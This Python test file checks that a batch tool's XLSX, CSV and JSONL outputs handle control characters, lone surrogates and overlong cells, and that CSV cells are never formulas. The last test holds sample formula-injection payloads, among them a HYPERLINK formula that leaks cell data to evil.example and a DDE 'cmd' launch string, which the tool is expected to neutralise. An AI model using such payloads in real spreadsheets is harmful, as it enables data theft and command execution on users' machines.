"""`sd batch` outputs accept every value.

Control characters do not make the XLSX impossible to write, lone surrogates in input
rows or answers neither stop the batch nor break an output, and CSV cells are never
formulas.
"""

from __future__ import annotations

import csv
import json
import textwrap
from pathlib import Path
from typing import Any

import pytest

from cli_support import plain_environment, sd, use_model  # noqa: F401
from cli_models import scripted


def write(path: Path, text: str) -> Path:
    path.write_text(textwrap.dedent(text).lstrip("\n"), encoding="utf-8")
    return path


def answers(mapping: dict[str, str]) -> Any:
    """Row N's answer is mapping[N] (the prompt says `Row N`)."""

    def reply(prompt: str, info: Any) -> Any:
        return mapping[prompt.split()[1]]

    return scripted(reply)


def rows(tmp_path: Path, count: int) -> Path:
    return write(tmp_path / "rows.jsonl", "".join(json.dumps({"n": str(i)}) + "\n" for i in range(count)))


@pytest.fixture
def template(tmp_path: Path) -> Path:
    return write(tmp_path / "t.sd", "Row {{ n }} [[answer]]\n")


def read_xlsx(path: Path) -> list[list[Any]]:
    import openpyxl

    book = openpyxl.load_workbook(path)
    values = [list(r) for r in book.active.iter_rows(values_only=True)]
    book.close()
    return values


# -- XLSX ---------------------------------------------------------------------------------


def test_xlsx_takes_control_characters_as_visible_escapes(tmp_path: Path, template: Path, use_model: Any) -> None:
    use_model(answers({"0": "bell\x07 and \x1b[31mred", "1": "fine\ttab\nnewline"}))
    out = tmp_path / "out.xlsx"
    result = sd("batch", template, rows(tmp_path, 2), "-o", out)
    assert result.exit_code == 0, result.output
    assert read_xlsx(out) == [["n", "answer"], ["0", "bell\\x07 and \\x1b[31mred"], ["1", "fine\ttab\nnewline"]]


def test_xlsx_takes_control_characters_in_input_columns_too(tmp_path: Path, template: Path, use_model: Any) -> None:
    use_model(answers({"0": "ok"}))
    data = write(tmp_path / "rows.jsonl", json.dumps({"n": "0", "col\x01": "v\x02"}) + "\n")
    out = tmp_path / "out.xlsx"
    assert sd("batch", template, data, "-o", out).exit_code == 0
    assert read_xlsx(out) == [["n", "col\\x01", "answer"], ["0", "v\\x02", "ok"]]


def test_xlsx_text_is_never_a_formula_or_an_error_value(tmp_path: Path, template: Path, use_model: Any) -> None:
    use_model(answers({"0": "=1+1", "1": "#N/A", "2": "@SUM(A1)"}))
    out = tmp_path / "out.xlsx"
    assert sd("batch", template, rows(tmp_path, 3), "-o", out).exit_code == 0
    import openpyxl

    book = openpyxl.load_workbook(out)
    cells = [row[1] for row in book.active.iter_rows(min_row=2)]
    assert [(c.value, c.data_type) for c in cells] == [("=1+1", "s"), ("#N/A", "s"), ("@SUM(A1)", "s")]


def test_xlsx_cells_are_cut_at_the_spreadsheet_limit(tmp_path: Path, template: Path, use_model: Any) -> None:
    use_model(answers({"0": "x" * 40_000}))
    out = tmp_path / "out.xlsx"
    assert sd("batch", template, rows(tmp_path, 1), "-o", out).exit_code == 0
    cell = read_xlsx(out)[1][1]
    assert len(cell) == 32_767 and cell.endswith("x…")


# -- lone surrogates ----------------------------------------------------------------------

SURROGATE_ROWS = '{"n": "0"}\n{"n": "1", "text": "half \\ud800 pair"}\n'


@pytest.mark.parametrize("suffix", [".jsonl", ".json", ".csv", ".xlsx"])
def test_an_input_row_with_a_lone_surrogate_runs_and_is_named(
    tmp_path: Path, template: Path, use_model: Any, suffix: str
) -> None:
    use_model(scripted(lambda prompt, info: "seen"))
    data = write(tmp_path / "rows.jsonl", SURROGATE_ROWS)
    out = tmp_path / f"out{suffix}"
    result = sd("batch", template, data, "-o", out, "--keep-journal")
    assert result.exit_code == 0, result.output
    assert f"warning: {data}: row 2 holds a lone surrogate" in result.stderr
    journal = [json.loads(line) for line in (tmp_path / "out.journal.jsonl").read_text(encoding="utf-8").splitlines()]
    assert [e["ok"] for e in journal] == [True, True]
    if suffix == ".jsonl":
        lines = out.read_text(encoding="utf-8").splitlines()
        assert json.loads(lines[1]) == {"n": "1", "text": "half \ud800 pair", "answer": "seen"}
    elif suffix == ".json":
        assert json.loads(out.read_text(encoding="utf-8"))[1]["text"] == "half \ud800 pair"
    elif suffix == ".csv":
        table = list(csv.reader(out.open(encoding="utf-8", newline="")))
        assert table[2] == ["1", "half \\ud800 pair", "seen"]
    else:
        assert read_xlsx(out)[2] == ["1", "half \\ud800 pair", "seen"]


def test_a_resumed_row_with_a_lone_surrogate_is_found_again(tmp_path: Path, template: Path, use_model: Any) -> None:
    calls: list[str] = []

    def reply(prompt: str, info: Any) -> Any:
        calls.append(prompt)
        if prompt.startswith("Row 0"):
            raise RuntimeError("first row fails")
        return "seen"

    use_model(scripted(reply))
    data = write(tmp_path / "rows.jsonl", SURROGATE_ROWS)
    out = tmp_path / "out.csv"
    assert sd("batch", template, data, "-o", out).exit_code == 1
    calls.clear()
    assert sd("batch", template, data, "-o", out, "--resume").exit_code == 1
    assert calls == ["Row 0"]  # row 1 (with the surrogate) came from the journal


def test_answers_with_lone_surrogates_reach_every_output(tmp_path: Path, template: Path, use_model: Any) -> None:
    use_model(answers({"0": "a \udfff b"}))
    for suffix in (".csv", ".xlsx", ".jsonl"):
        out = tmp_path / f"out{suffix}"
        assert sd("batch", template, rows(tmp_path, 1), "-o", out, "--no-cache").exit_code == 0
    assert list(csv.reader((tmp_path / "out.csv").open(encoding="utf-8")))[1] == ["0", "a \\udfff b"]
    assert read_xlsx(tmp_path / "out.xlsx")[1] == ["0", "a \\udfff b"]
    assert json.loads((tmp_path / "out.jsonl").read_text(encoding="utf-8"))["answer"] == "a \udfff b"


# -- CSV formula injection ------------------------------------------------------------------


def test_csv_cells_are_never_formulas(tmp_path: Path, template: Path, use_model: Any) -> None:
    hostile = {
        "0": '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "1": "+1+cmd|' /C calc'!A0",
        "2": "-2+3",
        "3": "@SUM(A1:A9)",
        "4": "\t=1",
        "5": "- a markdown item",
        "6": "-5",
        "7": "plain = text",
    }
    use_model(answers(hostile))
    data = write(
        tmp_path / "rows.jsonl",
        "".join(json.dumps({"n": str(i), "note": "=input" if i == 0 else -3}) + "\n" for i in range(8)),
    )
    out = tmp_path / "out.csv"
    assert sd("batch", template, data, "-o", out).exit_code == 0
    table = list(csv.reader(out.open(encoding="utf-8", newline="")))
    assert table[0] == ["n", "note", "answer"]
    assert [row[2] for row in table[1:]] == [
        "'" + hostile["0"], "'" + hostile["1"], "'-2+3", "'@SUM(A1:A9)", "'\t=1", "'- a markdown item", "-5",
        "plain = text",
    ]
    assert [row[1] for row in table[1:3]] == ["'=input", "-3"]  # input text too; numbers stay numbers
